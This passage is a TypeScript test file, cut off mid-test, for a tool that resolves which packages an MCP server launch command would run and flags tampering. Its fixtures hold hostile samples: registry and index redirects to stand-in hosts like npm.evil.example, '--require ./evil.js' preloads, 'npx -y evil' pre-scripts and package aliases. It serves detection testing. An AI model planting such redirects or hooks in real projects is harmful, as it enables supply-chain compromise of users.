/*
 * Tests launches that fetch nothing, because the project's files tell what they start. Each row holds a small
 * tree, a command line and the result: `type name version`, with the place that proves it.
 */

import { describe, expect, test } from 'vitest';
import { unidentifiedReason, versionPart } from '../../../src/detection/ecosystems/ecosystems.ts';
import { candidatesOf, proveCandidate } from '../../../src/detection/resolution/candidates.ts';
import { envFile } from '../../../src/detection/resolution/project/env-file-kind.ts';
import {
  createLazyProject,
  type Project,
  readUntilComplete,
} from '../../../src/detection/resolution/project/project.ts';
import { resolveLaunch } from '../../../src/detection/resolution/resolve.ts';
import { createTrackedPaths } from '../../../src/io/files/tracked.ts';
import type { Declaration, Dependency } from '../../../src/model/model.ts';
import { declare, launchWith, resolveIn, word } from '../../builders.ts';
import { cpuMs } from '../../cpu.ts';
import { missingFolder, unidentified } from '../launch/reasons.ts';

type Files = Readonly<Record<string, string>>;

function briefly(dependency: Dependency) {
  const { type, name, resolved, role, alterations } = dependency;
  const { specifier } = versionPart(dependency);
  const changed = alterations
    .map(
      ({ what, file, span }) =>
        ` (${what}${file === null ? '' : ` in ${file}:${span.start.line}`})`,
    )
    .join('');
  if (type === 'unidentified') return `unidentified: ${unidentifiedReason(dependency)}${changed}`;
  if (type === 'local') return `local ${name}${changed}`;
  const version = resolved
    ? `${resolved.version} by ${resolved.file}:${resolved.line}`
    : (specifier ?? '-');
  return `${type} ${name} ${version}${role === 'launcher' ? ' launcher' : ''}${changed}`;
}

async function brief(files: Files, command: string, overrides: Partial<Declaration> = {}) {
  return (await resolveIn(files, declare(command, overrides))).map(briefly);
}

const json = (value: unknown): string => JSON.stringify(value, null, 1);

const manifest = (parts: object): string => json({ name: 'shop', ...parts });
const packageLock = (packages: Record<string, object>): string =>
  json({ lockfileVersion: 3, packages: { '': {}, ...packages } });
const notes = { version: '1.2.0', bin: { 'notes-mcp': 'x.js' } };
const depends = { devDependencies: { '@acme/notes': '^1.0.0' } };
const installed = {
  'package.json': manifest({ ...depends, scripts: { mcp: 'notes-mcp --stdio' } }),
  'package-lock.json': packageLock({ 'node_modules/@acme/notes': notes }),
};
const proved = 'npm @acme/notes 1.2.0 by package-lock.json:5';

describe('scripts of package.json', () => {
  test.for<[string, Files, string, string[]]>([
    [
      'start a program of the tree',
      { 'package.json': manifest({ scripts: { mcp: 'tsx src/s.ts' } }), 'src/s.ts': '' },
      'npm run mcp',
      ['local src/s.ts'],
    ],
    ['start one that the lockfile records', installed, 'npm run mcp', [proved]],
    ['silently', installed, 'npm --silent run mcp -- --verbose', [proved]],
    ['by pnpm, yarn and bun', installed, 'pnpm mcp', [proved]],
    ['by yarn', installed, 'yarn run mcp', [proved]],
    ['by bun', installed, 'bun run mcp', [proved]],
    [
      'fetch a package',
      { 'package.json': manifest({ scripts: { start: 'npx -y @acme/notes@2.0.0' } }) },
      'npm start',
      ['npm @acme/notes 2.0.0'],
    ],
    [
      'with arguments behind theirs',
      { 'package.json': manifest({ scripts: { x: 'npx -y' } }) },
      'npm run x -- evil',
      ['npm evil -'],
    ],
    [
      'with what is called before them',
      { 'package.json': manifest({ scripts: { premcp: 'npx -y evil', mcp: 'npx good' } }) },
      'npm run mcp',
      ['npm evil -', 'npm good -'],
    ],
    [
      'of a workspace by its name',
      {
        'package.json': manifest({}),
        'packages/a/package.json': json({ name: '@acme/a', scripts: { dev: 'node s.js' } }),
        'packages/a/s.js': '',
      },
      'pnpm --filter @acme/a run dev',
      ['local packages/a/s.js'],
    ],
    [
      'of a workspace by its path',
      { 'packages/a/package.json': json({ scripts: { dev: 'node s.js' } }), 'packages/a/s.js': '' },
      'npm run dev -w packages/a',
      ['local packages/a/s.js'],
    ],
    [
      'in another folder',
      { 'b/package.json': json({ scripts: { dev: 'node s.js' } }), 'b/s.js': '' },
      'npm --prefix b run dev',
      ['local b/s.js'],
    ],
    [
      'that start others by their arguments',
      {
        'package.json': manifest({
          devDependencies: { turbo: '^2.0.0' },
          scripts: { a: 'turbo run start' },
        }),
      },
      'npm run a',
      [unidentified.missingCode],
    ],
    [
      'that start scripts',
      { 'package.json': manifest({ scripts: { a: 'npm run b', b: 'npx -y good' } }) },
      'npm run a',
      ['npm good -'],
    ],
    [
      'that start themselves',
      { 'package.json': manifest({ scripts: { a: 'npm run a' } }) },
      'npm run a',
      ['unidentified: scripts that start each other endlessly'],
    ],
    [
      'that are not there',
      { 'package.json': manifest({}) },
      'npm run mcp',
      ['unidentified: a script that package.json does not list'],
    ],
    ['of no package', {}, 'npm run mcp', [unidentified.noScript]],
    [
      'with substitutions',
      { 'package.json': manifest({ scripts: { a: 'npx $(cat x)' } }) },
      'npm run a',
      [unidentified.unreadShellText],
    ],
    [
      'whose program was not committed',
      { 'package.json': manifest({ scripts: { a: 'node dist/s.js' } }) },
      'npm run a',
      [unidentified.missingProgram],
    ],
  ])('%s', async ([, files, command, expected]) => {
    expect(await brief(files, command)).toEqual(expected);
  });
});

describe('shell scripts of the repository', () => {
  const start =
    '#!/usr/bin/env bash\nset -euo pipefail\n# npx commented\nif [ -n "$X" ]; then\n  export A=b\n  exec npx -y @acme/notes@1.0.0 "$@"\nfi\n';
  test.for<[string, Files, string, string[]]>([
    [
      'are code of the project that may fetch',
      { 'run.sh': start },
      './run.sh',
      ['local run.sh', 'npm @acme/notes 1.0.0'],
    ],
    [
      'by a shell',
      { 'bin/run': start },
      'bash bin/run',
      ['local bin/run', 'npm @acme/notes 1.0.0'],
    ],
    [
      'with variables that alter',
      { 'run.sh': 'export NODE_OPTIONS=-r=./x.js\nnpx good\n' },
      'sh run.sh',
      ['local run.sh', 'npm good - (NODE_OPTIONS)'],
    ],
    ['from the top of the checkout', { 'run.sh': start }, 'sh -c', [unidentified.silentShell]],
    ['that are no shell’s', { run: '#!/usr/bin/env node\n// npx evil\n' }, './run', ['local run']],
  ])('%s', async ([, files, command, expected]) => {
    expect(await brief(files, command)).toEqual(expected);
  });

  test('in the folder that the command line moves to', async () => {
    const text = 'cd "$(git rev-parse --show-toplevel)" && cd tools && exec bash run.sh';
    const launch = launchWith({ command: word('bash'), args: [word('-lc'), word(text)] });
    const dependencies = await resolveIn({ 'tools/run.sh': start }, declare('x', { launch }));
    expect(dependencies.map(briefly)).toEqual(['local tools/run.sh', 'npm @acme/notes 1.0.0']);
  });
});

describe('programs of an installation', () => {
  const alias = { 'package.json': manifest({ dependencies: { notes: 'npm:@evil/notes@1.0.0' } }) };
  test.for<[string, Files, string, string[]]>([
    ['by the lockfile’s record', installed, 'npx-unknown', [unidentified.unknownCommand]],
    ['pnpm exec', installed, 'pnpm exec notes-mcp', [proved]],
    ['a path in node_modules', installed, 'node node_modules/@acme/notes/dist/x.js', [proved]],
    ['a path in node_modules/.bin', installed, './node_modules/.bin/notes-mcp', [proved]],
    ['npx takes it, or fetches', installed, 'npx notes-mcp', ['npm notes-mcp -', proved]],
    ['npx of the package', installed, 'npx -y @acme/notes', ['npm @acme/notes -', proved]],
    [
      'npx of a range that it meets',
      installed,
      'npx -y @acme/notes@^1.1.0',
      ['npm @acme/notes ^1.1.0', proved],
    ],
    [
      'npx of a range that it does not meet',
      installed,
      'npx -y @acme/notes@^2.0.0',
      ['npm @acme/notes ^2.0.0'],
    ],
    ['npx of another version', installed, 'npx -y @acme/notes@1.3.0', ['npm @acme/notes 1.3.0']],
    [
      'npx of a tag is looked up in the registry',
      installed,
      'npx -y @acme/notes@latest',
      ['npm @acme/notes latest'],
    ],
    ['dlx always fetches', installed, 'pnpm dlx @acme/notes', ['npm @acme/notes -']],
    [
      'without a lockfile as the manifest says',
      { 'package.json': manifest({ dependencies: { notes: '^1.0.0' } }) },
      'pnpm exec notes',
      ['npm notes ^1.0.0'],
    ],
    ['an alias is what it stands for', alias, 'pnpm exec notes', ['npm @evil/notes 1.0.0']],
    [
      'that nobody brings',
      { 'package.json': manifest({}) },
      'pnpm exec notes',
      [unidentified.noProgram],
    ],
    [
      'under an override',
      {
        ...installed,
        'package.json': manifest({ ...depends, overrides: { '@acme/notes': '1.2.0' } }),
      },
      'pnpm exec notes-mcp',
      ['npm @acme/notes 1.2.0'],
    ],
    [
      'from another registry',
      {
        ...installed,
        'package-lock.json': packageLock({
          'node_modules/@acme/notes': { ...notes, resolved: 'https://npm.evil.example/n.tgz' },
        }),
      },
      'pnpm exec notes-mcp',
      [
        expect.stringMatching(
          /^npm @acme\/notes \^1\.0\.0 \(the lockfile entry that records it as .* another registry in package-lock\.json:5\)$/,
        ),
      ],
    ],
    [
      'of a workspace are code of the project',
      {
        'package.json': manifest({ dependencies: { own: 'workspace:*' } }),
        'packages/own/package.json': json({ name: 'own', bin: { 'own-mcp': './bin.js' } }),
        'packages/own/bin.js': '',
      },
      'pnpm exec own-mcp',
      ['local packages/own/bin.js'],
    ],
    [
      'its own program may come before what npx fetches',
      { 'package.json': manifest({ bin: { good: 'evil.js' } }) },
      'npx -y good',
      ['npm good -', 'local package.json'],
    ],
  ])('%s', async ([, files, command, expected]) => {
    expect(await brief(files, command)).toEqual(expected);
  });

  test('the nearest lockfile that speaks for the folder counts', async () => {
    const files = {
      ...installed,
      'apps/a/package.json': json({ name: 'a', ...depends }),
      'apps/a/package-lock.json': packageLock({
        'node_modules/@acme/notes': { ...notes, version: '1.9.0' },
      }),
      'apps/b/package.json': json({ name: 'b', ...depends }),
    };
    const at = (folder: string) => brief(files, 'npm exec-unknown', { folder });
    expect(await at('apps/a')).toHaveLength(1);
    expect(await brief(files, 'pnpm exec notes-mcp', { folder: 'apps/a' })).toEqual([
      'npm @acme/notes 1.9.0 by apps/a/package-lock.json:5',
    ]);
    // The lockfile at the top does not list apps/b, so apps/b is not one of its workspaces.
    expect(await brief(files, 'pnpm exec notes-mcp', { folder: 'apps/b' })).toEqual([
      unidentified.noProgram,
    ]);
  });
});

describe('programs of a Python environment', () => {
  const uvLock = `version = 1\n\n[[package]]\nname = "mcp-server-git"\nversion = "2025.7.1"\nsource = { registry = "https://pypi.org/simple" }\n\n[[package]]\nname = "lab"\nversion = "0.1.0"\nsource = { virtual = "." }\n`;
  const pyproject = `[project]\nname = "lab"\ndependencies = ["mcp-server-git>=2025.7"]\n[project.scripts]\nlab-mcp = "lab.server:main"\nlost-mcp = "lost:main"\n`;
  const files = {
    'pyproject.toml': pyproject,
    'uv.lock': uvLock,
    'src/lab/server.py': '',
    'tool.py': '',
  };
  const locked = 'pypi mcp-server-git 2025.7.1 by uv.lock:3';
  test.for<[string, Files, string, string[]]>([
    ['uv run', files, 'uv run mcp-server-git --repository .', [locked]],
    ['uv run -m', files, 'uv run -m mcp_server_git --x', [locked]],
    ['uv run python -m', files, 'uv run python -m mcp_server_git', [locked]],
    ['python -m', files, 'python3 -m mcp_server_git', [locked]],
    [
      'poetry run has no part in uv’s lockfile',
      files,
      'poetry run mcp-server-git',
      ['pypi mcp-server-git >=2025.7'],
    ],
    [
      'in another folder',
      { 'lab/pyproject.toml': pyproject, 'lab/uv.lock': uvLock },
      'uv --directory lab run mcp-server-git',
      ['pypi mcp-server-git 2025.7.1 by lab/uv.lock:3'],
    ],
    ['uvx fetches', files, 'uvx mcp-server-git', ['pypi mcp-server-git -']],
    ['a program of the project', files, 'uv run lab-mcp', ['local src/lab/server.py']],
    ['one whose module is not there', files, 'uv run lost-mcp', [unidentified.noProgram]],
    ['a module of the project', files, 'python -m lab.server', ['local src/lab/server.py']],
    ['a file', files, 'uv run tool.py', ['local tool.py']],
    [
      'a framework that runs a file',
      files,
      'uv run --with fastmcp fastmcp run tool.py:app',
      ['pypi fastmcp -', 'local tool.py'],
    ],
    [
      'a source of its own',
      {
        ...files,
        'pyproject.toml': `${pyproject}[tool.uv.sources]\nmcp-server-git = { git = "https://github.com/evil/g", rev = "main" }\n`,
      },
      'uv run mcp-server-git',
      ['git github.com/evil/g main'],
    ],
    [
      'an index of its own',
      { ...files, 'uv.toml': 'index-url = "https://pypi.evil.example/simple"\n' },
      'uv run mcp-server-git',
      [`${locked} (index-url in uv.toml:1)`],
    ],
    ['nobody’s', files, 'uv run other', [unidentified.noProgram]],
    [
      'as requirements ask',
      { 'requirements.txt': '# x\nmcp-server-git==2025.1.1 --hash=x\n' },
      'python -m mcp_server_git',
      ['pypi mcp-server-git ==2025.1.1'],
    ],
  ])('%s', async ([, tree, command, expected]) => {
    expect(await brief(tree, command)).toEqual(expected);
  });
});

describe('files around a launch alter it', () => {
  const evil = 'https://npm.evil.example/';
  test.for<[string, Files, string, string[]]>([
    [
      '.npmrc',
      { '.npmrc': `fund=false\nregistry=${evil}` },
      'npx -y good',
      ['npm good - (registry in .npmrc:2)'],
    ],
    [
      'the default registry does not',
      { '.npmrc': 'registry=https://registry.npmjs.org/\n//x/:_authToken=abc' },
      'npx -y good',
      ['npm good -'],
    ],
    [
      'a scope that the package is in',
      { '.npmrc': `@acme:registry=${evil}` },
      'npx -y @acme/x',
      ['npm @acme/x - (@acme:registry in .npmrc:1)'],
    ],
    [
      'a scope that it is not in',
      { '.npmrc': `@acme:registry=${evil}` },
      'npx -y good',
      ['npm good -'],
    ],
    [
      'a scope of the line with a dash, and not with an underscore',
      { '.npmrc': `@my-corp:registry=${evil}\n@my_corp:registry=${evil}` },
      'pnpm dlx @my-corp/x',
      ['npm @my-corp/x - (@my-corp:registry in .npmrc:1)'],
    ],
    [
      'a scope with a dot of bunfig.toml',
      {
        'package.json': manifest({ devDependencies: { '@my.corp/x': '1.0.0' } }),
        'package-lock.json': packageLock({
          'node_modules/@my.corp/x': { version: '1.0.0', bin: { 'x-mcp': 'x.js' } },
        }),
        'bunfig.toml': `[install.scopes]\n"my.corp" = { url = "${evil}" }\nmy = "${evil}"`,
      },
      'bun run x-mcp',
      ['npm @my.corp/x 1.0.0 by package-lock.json:5 (install.scopes.my.corp.url in bunfig.toml:2)'],
    ],
    [
      'a scope that npm asks for any package',
      { '.npmrc': `scope=acme\n@acme:registry=${evil}` },
      'npx -y good',
      ['npm good - (@acme:registry in .npmrc:2)'],
    ],
    [
      'options of node',
      { '.npmrc': 'node-options=--require ./evil.js' },
      'npx -y good',
      ['npm good - (node-options in .npmrc:1)'],
    ],
    [
      '.yarnrc.yml',
      { '.yarnrc.yml': `npmRegistryServer: "${evil}"` },
      'yarn dlx good',
      ['npm good - (npmRegistryServer in .yarnrc.yml:1)'],
    ],
    [
      'another Yarn',
      { '.yarnrc.yml': 'yarnPath: ./evil.js' },
      'yarn dlx good',
      ['npm good - (yarnPath in .yarnrc.yml:1)'],
    ],
    [
      'a release of Yarn does not',
      { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.0.cjs' },
      'yarn dlx good',
      ['npm good -'],
    ],
    [
      'uvx does not read the project',
      { 'uv.toml': 'index-url = "https://pypi.evil.example/simple"' },
      'uvx good',
      ['pypi good -'],
    ],
    [
      'a file that sets variables',
      { 'ci/mcp.env': 'A=b\nexport UV_INDEX_URL="https://pypi.evil.example"\n' },
      'uvx --env-file ci/mcp.env good',
      ['pypi good - (UV_INDEX_URL in ci/mcp.env:2)'],
    ],
    ['one that is not in the tree does not', {}, 'uvx --env-file .env good', ['pypi good -']],
  ])('%s', async ([, files, command, expected]) => {
    expect(await brief(files, command)).toEqual(expected);
  });

  // The results match npm 11.19.1, which takes the scope in an option exactly but folds the scope in a
  // variable.
  test.for([
    ['npx --@my-corp:registry=URL @my-corp/x', '--@my-corp:registry'],
    ['npm exec --@my-corp:registry=URL -- @my-corp/x', '--@my-corp:registry'],
    ['npx --@other:registry=URL --@my-corp:registry=URL @my-corp/x', '--@my-corp:registry'],
    ['npx --@my_corp:registry=URL @my-corp/x', null],
    ['npx --@my_corp:registry=URL @my_corp/x', '--@my_corp:registry'],
    ['npx --@my.corp:registry=URL @my.corp/x', '--@my.corp:registry'],
    ['npx --@my:registry=URL @my-corp/x', null],
    ['npx --//my-host/:_authToken=x @my-corp/x', null],
    ['npx --scope=@evil --@evil:registry=URL @my-corp/x', '--@evil:registry'],
    ['env npm_config_@my_corp:registry=URL npx @my-corp/x', 'npm_config_@my_corp:registry'],
    ['env npm_config_@my-corp:registry=URL npx @my-corp/x', 'npm_config_@my-corp:registry'],
    ['env NPM_CONFIG_@MY_CORP:REGISTRY=URL npx @my-corp/x', 'NPM_CONFIG_@MY_CORP:REGISTRY'],
    ['env npm_config_@my_corp:registry=URL yarn dlx @my_corp/x', 'npm_config_@my_corp:registry'],
    ['env npm_config_@my.corp:registry=URL npx @my-corp/x', null],
  ] as const)('a registry for a scope: %s', async ([command, what]) => {
    const [launch = ''] = await brief({}, command.replaceAll('URL', evil));
    expect(/ \((.*)\)$/.exec(launch)?.[1] ?? null).toBe(what);
  });

  test('those of the folder that the client works in', async () => {
    const files = { 'apps/a/.npmrc': `registry=${evil}` };
    expect(await brief(files, 'npx good', { folder: 'apps/a' })).toEqual([
      'npm good - (registry in apps/a/.npmrc:1)',
    ]);
    expect(await brief(files, 'npx good')).toEqual(['npm good -']);
  });

  test('the envFile of an entry', async () => {
    const launch = {
      ...declare('npx good').launch,
      envFile: word('${workspaceFolder}/.env.mcp'),
    };
    expect(await brief({ '.env.mcp': 'NODE_OPTIONS=-r ./x.js' }, 'x', { launch })).toEqual([
      'npm good - (NODE_OPTIONS in .env.mcp:1)',
    ]);
  });
});

describe('what Python’s managers run', () => {
  const tasks = [
    '[project]\nname = "lab"\ndependencies = ["notes-mcp==1.0"]',
    '[tool.hatch.envs.default.scripts]\nstart = "python tool.py"',
  ].join('\n');
  const files = { 'pyproject.toml': tasks, 'tool.py': '', 'pkg/__main__.py': '' };
  const notes = 'pypi notes-mcp ==1.0';
  const tool = 'local tool.py';
  test.for<[string, string[]]>([
    ['hatch run notes-mcp', [notes]],
    ['hatch run python tool.py', [tool]],
    // The project's tasks are not read.
    ['hatch run start', [unidentified.unknownCommand]],
    ['pdm run notes-mcp', [notes]],
    ['pixi run -e dev python3.13 tool.py', [tool]],
    ['pdm run uvx other-mcp==2', ['pypi other-mcp ==2']],
    ['uv run ./pkg', ['local pkg/__main__.py']],
    ['py -3.12 pkg', ['local pkg/__main__.py']],
    ['node pkg/__main__.py', ['local pkg/__main__.py']],
  ])('%s', async ([launch, expected]) => {
    expect((await resolveIn(files, declare(launch))).map(briefly)).toEqual(expected);
  });
});

describe('what a repository may try', () => {
  const evil = 'npm evil -';
  const good = { 'good-mcp': '^1.0.0' };
  const lock = (version = '1.0.0') =>
    packageLock({ 'node_modules/good-mcp': { version, bin: { 'good-mcp': 'x.js' } } });
  const start = { start: 'good-mcp' };
  const repo = {
    'package.json': manifest({ dependencies: good, scripts: start }),
    'package-lock.json': lock(),
  };
  const goodAt = 'npm good-mcp 1.0.0 by package-lock.json:5';
  const uvLock = (version: string) =>
    `version = 1\n\n[[package]]\nname = "good-mcp"\nversion = "${version}"\nsource = { registry = "https://pypi.org/simple" }\n`;
  const noProgram = unidentified.noProgram;
  const inPyproject = (text: string) => ({ 'pyproject.toml': `[project]\n${text}` });

  test.for<[string, Files, string, string[]]>([
    [
      'a lockfile that contradicts the manifest proves nothing',
      {
        ...repo,
        'package.json': manifest({ dependencies: { 'good-mcp': '0.1.0' }, scripts: start }),
      },
      'npm start',
      ['npm good-mcp 0.1.0'],
    ],
    [
      'that of uv neither',
      { ...inPyproject('dependencies = ["good-mcp==0.1.0"]'), 'uv.lock': uvLock('1.0.0') },
      'uv run good-mcp',
      ['pypi good-mcp ==0.1.0'],
    ],
    [
      'a second lockfile, of another manager, has no say',
      {
        ...repo,
        'bun.lock':
          '{"lockfileVersion": 1, "workspaces": {"": {}}, "packages": {"evil": ["evil@1.0.0", "", {"bin": {"good-mcp": "x"}}, "sha512-x"]}}',
      },
      'bun run start',
      ['npm evil 1.0.0 by bun.lock:1'],
    ],
    [
      'a lockfile within a member of a workspace neither',
      {
        ...repo,
        'package.json': manifest({ workspaces: ['sub'], dependencies: good }),
        'sub/package.json': json({ scripts: start, dependencies: good }),
        'sub/package-lock.json': lock('1.5.0'),
      },
      'npm --prefix sub start',
      ['npm good-mcp ^1.0.0'],
    ],
    [
      'a folder that a workspace leaves out is none of its members',
      {
        'package.json': manifest({ workspaces: ['packages/*', '!packages/old'] }),
        'yarn.lock': '# yarn lockfile v1\n\ngood-mcp@^1.0.0:\n  version "1.0.0"\n',
        'packages/old/package.json': json({ dependencies: good }),
      },
      'yarn --cwd packages/old good-mcp',
      ['npm good-mcp ^1.0.0'],
    ],
    [
      'an override puts another package in its place',
      {
        'package.json': manifest({
          dependencies: good,
          scripts: start,
          overrides: { 'good-mcp': 'npm:evil@1' },
        }),
      },
      'npm start',
      ['npm evil 1'],
    ],
    [
      'so does one of pnpm',
      {
        'package.json': manifest({ dependencies: good }),
        'pnpm-workspace.yaml': 'overrides:\n  good-mcp: npm:evil@1\n',
      },
      'pnpm exec good-mcp',
      ['npm evil 1'],
    ],
    [
      'and one that is nested is reported',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: start,
          overrides: { x: { 'good-mcp': '0.1.0' } },
        }),
      },
      'npm start',
      ['npm good-mcp ^1.0.0 (an override that the gate does not understand in package.json:1)'],
    ],
    [
      'a patch',
      { ...repo, 'patches/good-mcp+1.0.0.patch': '' },
      'npm start',
      ['npm good-mcp ^1.0.0 (a patch in the project in patches/good-mcp+1.0.0.patch:1)'],
    ],
    [
      'a source that is a folder',
      inPyproject('dependencies = ["good-mcp"]\n[tool.uv.sources]\ngood-mcp = { path = "./evil" }'),
      'uv run good-mcp',
      ['unidentified: one of the project’s own sources, which is not a package'],
    ],
    [
      'a source that is an index',
      inPyproject('dependencies = ["good-mcp"]\n[tool.uv.sources]\ngood-mcp = { index = "evil" }'),
      'uv run good-mcp',
      [
        'pypi good-mcp - (one of the project’s own sources in pyproject.toml:1) (tool.uv.sources.good-mcp.index in pyproject.toml:4)',
      ],
    ],
    [
      'an index of requirements',
      { 'requirements.txt': '--index-url https://evil.example\ngood-mcp==1.0.0\n' },
      'python -m good_mcp',
      ['pypi good-mcp ==1.0.0 (an index in requirements.txt in requirements.txt:1)'],
    ],
    [
      'a bridge that the installation brings',
      {
        'package.json': manifest({
          dependencies: { 'mcp-remote': '^0.1.0' },
          scripts: { start: 'mcp-remote https://evil.example/mcp' },
        }),
      },
      'npm start',
      ['remote https://evil.example/mcp -', 'npm mcp-remote ^0.1.0 launcher'],
    ],
    [
      'a wrapper that it brings',
      {
        'package.json': manifest({
          dependencies: { 'cross-env': '^7.0.0' },
          scripts: { start: 'cross-env A=1 npx -y evil' },
        }),
      },
      'npm start',
      [evil, 'npm cross-env ^7.0.0 launcher'],
    ],
    [
      'a folder that is not looked into',
      repo,
      'npm --prefix vendor/evil start',
      [unidentified.noScript],
    ],
    [
      'a package within another one',
      repo,
      'node node_modules/evil/node_modules/good-mcp/x.js',
      [unidentified.missingProgram],
    ],
    [
      'modules of a folder that is no package',
      repo,
      'node tools/node_modules/good-mcp/x.js',
      [unidentified.missingProgram],
    ],
    [
      'settings of the folder that is moved to',
      { 'sub/package.json': json({}), 'sub/.npmrc': 'registry=https://evil.example/' },
      'pnpm -C sub dlx good-mcp',
      ['npm good-mcp - (registry in sub/.npmrc:1)'],
    ],
    [
      'settings without a lockfile',
      { ...repo, 'package-lock.json': '', '.npmrc': 'registry=https://evil.example/' },
      'npm start',
      ['npm good-mcp ^1.0.0 (registry in .npmrc:1)'],
    ],
    [
      'settings in capitals',
      { '.NPMRC': 'registry=https://evil.example/' },
      'npx good-mcp',
      ['npm good-mcp - (registry in .NPMRC:1)'],
    ],
    [
      'a script before the script',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: { ...start, prestart: 'npm run z', z: 'npx -y evil' },
        }),
      },
      'npm start',
      [evil, goodAt],
    ],
    [
      'a build before the script is none',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: { ...start, prestart: 'npm run build', build: 'rimraf dist && tsc' },
        }),
      },
      'npm start',
      [goodAt],
    ],
    [
      'several workspaces',
      repo,
      'pnpm --filter evil --filter good start',
      ['unidentified: a program from several packages, or from another package'],
    ],
    [
      'all packages',
      repo,
      'pnpm -r run start',
      ['unidentified: a program from several packages, or from another package'],
    ],
    [
      'a folder and a package of one name',
      {
        'good/package.json': json({ name: 'x', scripts: start }),
        'evil/package.json': json({ name: 'good' }),
      },
      'npm start -w good',
      [unidentified.noScript],
    ],
    [
      'a script named like a command',
      { ...repo, 'package.json': manifest({ scripts: { create: 'good-mcp' } }) },
      'pnpm create evil',
      ['unidentified: a built-in package manager command'],
    ],
    [
      'a program named like a launcher',
      {
        'package.json': manifest({ scripts: { start: 'uvx good-mcp==1.0.0' } }),
        'package-lock.json': packageLock({
          'node_modules/evil': { version: '1.0.0', bin: { uvx: 'x.js' } },
        }),
      },
      'npm start',
      ['pypi good-mcp ==1.0.0', 'npm evil 1.0.0 by package-lock.json:5'],
    ],
    [
      'a program named like a specification',
      {
        ...repo,
        'package-lock.json': packageLock({
          'node_modules/evil': { version: '1.0.0', bin: { 'good-mcp@latest': 'x.js' } },
        }),
      },
      'npx good-mcp@latest',
      ['npm good-mcp latest', 'npm evil 1.0.0 by package-lock.json:5'],
    ],
    [
      'a shell within a script',
      { 'run.sh': "bash -lc 'npx -y evil'\n" },
      './run.sh',
      ['local run.sh', evil],
    ],
    [
      'a folder named like the program',
      { ...inPyproject('dependencies = ["good-mcp"]'), 'good-mcp/__main__.py': '' },
      'uv run good-mcp',
      ['local good-mcp/__main__.py'],
    ],
    [
      'another interpreter',
      inPyproject('dependencies = ["good-mcp"]'),
      'uv run --python ./evil good-mcp',
      ['pypi good-mcp - (--python)'],
    ],
    [
      'the oldest version',
      {},
      'uvx --resolution lowest-direct good-mcp',
      ['pypi good-mcp - (--resolution)'],
    ],
    [
      'registries of pnpm',
      { 'pnpm-workspace.yaml': 'registry: https://evil.example/\n' },
      'pnpm dlx good-mcp',
      ['npm good-mcp - (registry in pnpm-workspace.yaml:1)'],
    ],
    [
      'a pattern of nothing',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: start,
          workspaces: ['./', `${'*a'.repeat(30)}b`],
        }),
      },
      'npm start',
      [goodAt],
    ],
    [
      'a tool that moves files',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: { ...start, prestart: 'cp x.js node_modules/good-mcp/x.js' },
        }),
      },
      'npm start',
      [noProgram, goodAt],
    ],
    [
      'a tool that builds beside what is installed',
      {
        ...repo,
        'package.json': manifest({ dependencies: good, scripts: { start: 'tsc && good-mcp' } }),
      },
      'npm start',
      [goodAt, 'unidentified: a script that also runs a build'],
    ],
    [
      'another package under the name of a tool',
      {
        'package.json': manifest({
          devDependencies: { vite: 'npm:evil@1.0.0' },
          scripts: { start: 'vite' },
        }),
      },
      'npm start',
      ['npm evil 1.0.0'],
    ],
    [
      'a folder of the command line that is not seen',
      {},
      'pnpm -C vendor/e dlx good-mcp',
      [`npm good-mcp - (${missingFolder})`],
    ],
    [
      'keys that npm reads otherwise',
      { '.npmrc': String.raw`"\u0072egistry"=https://evil.example/` },
      'npx good-mcp',
      ['npm good-mcp - (registry in .npmrc:1)'],
    ],
    [
      'keys with a comment',
      { '.npmrc': 'registry#x=https://evil.example/' },
      'npx good-mcp',
      ['npm good-mcp - (registry in .npmrc:1)'],
    ],
    [
      'keys with a variable',
      { '.npmrc': 'regis${X?}try=https://evil.example/' },
      'npx good-mcp',
      ['npm good-mcp - (regis${X?}try in .npmrc:1)'],
    ],
    [
      'settings of pnpm in its own spelling',
      { 'pnpm-workspace.yaml': 'scriptShell: ./evil\n' },
      'pnpm dlx good-mcp',
      ['npm good-mcp - (scriptShell in pnpm-workspace.yaml:1)'],
    ],
    [
      'a program of another package of the tree',
      {
        'package.json': manifest({}),
        'p/e/package.json': json({ name: 'e', bin: { 'good-mcp': 'e.js' } }),
      },
      'npx -y good-mcp',
      ['npm good-mcp -', 'local p/e/package.json'],
    ],
    [
      'an alias that npx finds installed',
      { 'package.json': manifest({ dependencies: { 'good-mcp': 'npm:evil@1' } }) },
      'npx -y good-mcp',
      ['npm good-mcp -', 'npm evil 1'],
    ],
    [
      'an index of Poetry',
      {
        'pyproject.toml':
          '[tool.poetry.dependencies]\ngood-mcp = "1.0.0"\n[[tool.poetry.source]]\nname = "evil"\nurl = "https://evil.example"\n',
      },
      'poetry run good-mcp',
      ['pypi good-mcp 1.0.0 (tool.poetry.source.url in pyproject.toml:5)'],
    ],
    [
      'an override of uv',
      inPyproject(
        'dependencies = ["good-mcp"]\n[tool.uv]\noverride-dependencies = ["good-mcp @ https://evil.example/x.whl"]',
      ),
      'uv run good-mcp',
      [unidentified.archive],
    ],
    [
      'a source of the workspace’s root',
      {
        ...inPyproject(
          'dependencies = []\n[tool.uv.sources]\ngood-mcp = { git = "https://github.com/evil/g" }',
        ),
        'm/pyproject.toml': '[project]\ndependencies = ["good-mcp"]\n',
      },
      'uv --directory m run good-mcp',
      ['git github.com/evil/g -'],
    ],
    [
      'an explicit index beside one that is not',
      inPyproject(
        'dependencies = ["good-mcp"]\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\nexplicit = false\n[[tool.uv.index]]\nurl = "https://torch.example/simple"\nexplicit = true',
      ),
      'uv run good-mcp',
      ['pypi good-mcp - (tool.uv.index.url in pyproject.toml:4)'],
    ],
    [
      'a package of the tree before the module',
      { 'requirements.txt': 'good-mcp==1.0.0', 'good_mcp/__init__.py': '' },
      'python -m good_mcp.server',
      [noProgram],
    ],
    [
      'declarations that differ',
      inPyproject(
        'dependencies = ["good-mcp==0.1.0"]\n[project.optional-dependencies]\nx = ["good-mcp==1.0.0"]',
      ),
      'uv run good-mcp',
      [
        'pypi good-mcp ==0.1.0 (a second declaration that differs from the first in pyproject.toml:1)',
      ],
    ],
    [
      'an override that refers',
      {
